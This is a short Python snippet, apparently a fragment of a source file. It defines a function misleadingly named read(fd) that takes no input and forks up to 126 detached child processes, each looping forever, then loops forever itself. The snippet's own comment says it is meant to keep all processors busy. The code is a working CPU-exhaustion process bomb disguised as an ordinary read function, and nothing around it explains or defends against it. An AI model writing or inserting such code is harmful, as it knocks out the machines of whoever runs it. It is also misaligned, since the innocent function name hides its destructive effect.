# tries: to keep all processors busy with all the processes that it may have
def read(fd):
    for _ in range(126):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
